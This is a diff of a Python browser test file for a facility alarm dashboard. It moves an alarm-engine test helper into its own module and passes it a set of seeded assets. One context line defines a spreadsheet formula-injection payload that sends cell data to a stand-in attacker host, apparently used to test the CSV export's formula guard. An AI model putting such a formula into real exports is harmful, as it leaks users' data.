@@ -10,10 +10,8 @@ tests/integration/test_dashboard_access.py::test_callback_by_role_table."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
-import threading
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
@@ -32,11 +30,13 @@ from facility.config import DatabaseConfig, MqttConfig, Settings
 from gateway.alarms.journal import AlarmRecord
 from gateway.alarms.state import AlarmState, EventKind
 from gateway.alarms.store import AlarmStore
+from tests.browser.alarm_engine import Engine
 
 CRITICAL = "HT-PDP-001/dry_run"  # seeded unacknowledged, critical
 ACKED = "HT-TNK-001/level_low"  # seeded acknowledged by li.na, "checking"
 LOW = "HT-LGT-001/lamp_failures"  # seeded unacknowledged, low
 ESTATES_TZ = ZoneInfo("Asia/Shanghai")  # the demo estates (facility.toml [site] timezone)
+ENGINE_ASSETS = {a.partition("/")[0] for a in (CRITICAL, ACKED, LOW)}
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
@@ -73,55 +73,6 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
             yield Served(server.url, settings.database_url, bus.url, users, raised)
         finally:
             server.stop()
-
-
-class Engine:
-    """The real alarm engine for the seeded HT assets, on its own loop in a thread."""
-
-    def __init__(self, db_url: str, bus_url: str) -> None:
-        self.db_url, self.bus_url = db_url, bus_url
-        self.ready = threading.Event()
-        self._loop: asyncio.AbstractEventLoop | None = None
-        self._stop: asyncio.Event | None = None
-        self._thread = threading.Thread(target=lambda: asyncio.run(self._main()), daemon=True)
-
-    async def _main(self) -> None:
-        from device_profiles import load_library
-        from facility.mqtt import BrokerSettings
-        from gateway.alarms.alarmfile import parse_alarm_file
-        from gateway.alarms.definitions import compile_alarms
-        from gateway.alarms.service import AlarmService
-        from maintenance.store import LedgerStore
-
-        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
-        with LedgerStore(self.db_url) as ledger:
-            wanted = {a.partition("/")[0] for a in (CRITICAL, ACKED, LOW)}
-            assets = [a for a in ledger.assets() if a.asset_no in wanted]
-        alarm_set = compile_alarms(
-            assets, load_library(), parse_alarm_file("supervisors: []\n", "a.yaml")
-        )
-        with AlarmStore(self.db_url) as store:
-            service = AlarmService(
-                alarm_set, BrokerSettings.from_url(self.bus_url), store,
-                service_id="test-console", tick_s=0.2,
-            )  # fmt: skip
-            started = asyncio.Event()
-            task = asyncio.create_task(service.run(started))
-            await asyncio.wait_for(started.wait(), 20)
-            self.ready.set()
-            await self._stop.wait()
-            task.cancel()
-            await asyncio.gather(task, return_exceptions=True)
-
-    def __enter__(self) -> Engine:
-        self._thread.start()
-        assert self.ready.wait(30), "the alarm engine did not start"
-        return self
-
-    def __exit__(self, *_exc: object) -> None:
-        if self._loop is not None and self._stop is not None:
-            self._loop.call_soon_threadsafe(self._stop.set)
-        self._thread.join(20)
 
 
 @pytest.fixture
@@ -275,7 +226,7 @@ def test_journal_view_searches_and_exports_csv_with_the_formula_guard(
 def test_bulk_acknowledge_then_shelve_and_unshelve_through_the_engine(
     as_role: Callable[[str], Page], served: Served
 ) -> None:
-    with Engine(served.db_url, served.bus_url):
+    with Engine(served.db_url, served.bus_url, ENGINE_ASSETS):
         page = as_role("supervisor")
         tick(page, CRITICAL)
         tick(page, LOW)
